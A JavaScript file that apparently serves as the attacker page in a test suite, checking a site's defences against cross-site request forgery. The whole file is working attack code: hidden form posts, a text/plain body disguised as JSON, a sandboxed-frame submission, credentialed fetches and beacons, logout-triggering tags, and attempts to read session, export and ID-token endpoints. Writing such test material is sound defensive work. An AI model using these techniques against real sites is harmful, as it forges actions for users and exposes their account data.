/**
 * The script of a malicious page: every way in which a page can make its visitor's browser send requests to another
 * site.
 */

function insert(tag, attributes) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  document.body.append(element);
  return element;
}

function settled(element) {
  return new Promise((resolve) => {
    element.addEventListener('load', () => resolve(true), { once: true });
    element.addEventListener('error', () => resolve(false), { once: true });
  });
}

async function sendForm(frame, action, method, enctype, fields) {
  const form = insert('form', { action, method, enctype, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
  }
  const loaded = settled(frame);
  form.submit();
  await loaded;
  form.remove();
}

/** JSON in a form: the field's name and value, with the `=` between them, are one JSON object. */
function disguised(body) {
  return { [JSON.stringify({ ...body, rest: '' }).slice(0, -2)]: '"}' };
}

/** Forms in hidden frames, which share one process of another site, and one from a frame with an opaque origin. */
async function sendForms(site, operations, body) {
  const ways = [
    ['application/x-www-form-urlencoded', body],
    ['multipart/form-data', body],
    ['text/plain', disguised(body)],
  ].map(([enctype, fields]) => ({ frame: insert('iframe', { name: enctype }), enctype, fields }));
  for (const { method, path } of operations) {
    const sent = method === 'GET' ? 'get' : 'post';
    await Promise.all(ways.map(({ frame, enctype, fields }) => sendForm(frame, site + path, sent, enctype, fields)));
  }
  for (const { frame } of ways) frame.remove();
  const [[name, value]] = Object.entries(disguised(body));
  const frame = insert('iframe', { sandbox: 'allow-forms allow-scripts' });
  const loaded = settled(frame);
  frame.srcdoc = `<form action="${site}/api/users/profile" method="post" enctype="text/plain"><input name='${name}' value='${value}'></form><script>document.forms[0].submit()</script>`;
  await loaded;
}

/** Resolves to what the page could read, if anything. */
async function ask(address, init) {
  try {
    const answer = await fetch(address, { credentials: 'include', ...init });
    const text = await answer.text();
    return text === '' ? [] : [`${init.method ?? 'GET'} ${address} ${text.slice(0, 80)}`];
  } catch {
    return [];
  }
}

async function sendScripted(site, operations, body) {
  const read = [];
  for (const { method, path } of operations) {
    const address = site + path;
    const given = method === 'GET' ? {} : { body: JSON.stringify(body) };
    const plain = { 'content-type': 'text/plain;charset=UTF-8' };
    const isSimple = method === 'GET' || method === 'POST';
    const ways = [
      ...(isSimple ? [{ mode: 'no-cors', headers: plain, ...given }, { mode: 'no-cors' }] : []),
      { mode: 'cors', headers: { 'content-type': 'application/json' }, ...given },
      { mode: 'cors', headers: plain, ...given },
    ];
    const answers = await Promise.all(ways.map((way) => ask(address, { method, ...way })));
    read.push(...answers.flat());
    if (method === 'POST') {
      navigator.sendBeacon(address, JSON.stringify(body));
      navigator.sendBeacon(address, new URLSearchParams(body));
    }
  }
  for (const path of [
    '/api/users/me',
    '/api/account',
    '/api/account/sessions',
    '/api/account/export',
    '/api/auth/id-token',
  ]) {
    read.push(...(await ask(site + path, { mode: 'cors' })));
  }
  return read;
}

/** Tags that fetch by themselves; resolves to those that loaded something. */
async function sendTags(site) {
  const tags = [
    ['img', { src: `${site}/api/logout` }],
    ['script', { src: `${site}/api/users/me` }],
    ['script', { src: `${site}/api/logout` }],
    ['link', { rel: 'stylesheet', href: `${site}/api/users/me` }],
  ];
  const got = [];
  for (const [tag, attributes] of tags) {
    // oxlint-disable-next-line typescript/no-base-to-string, typescript/restrict-template-expressions -- the first of each pair is a string
    if (await settled(insert(tag, attributes))) got.push(`${tag} ${JSON.stringify(attributes)}`);
  }
  for (const path of ['/api/logout', '/account', '/auth']) await settled(insert('iframe', { src: site + path }));
  return got;
}

function follow(address) {
  insert('a', { href: address }).click();
}

Object.assign(globalThis, { sendForms, sendScripted, sendTags, follow });
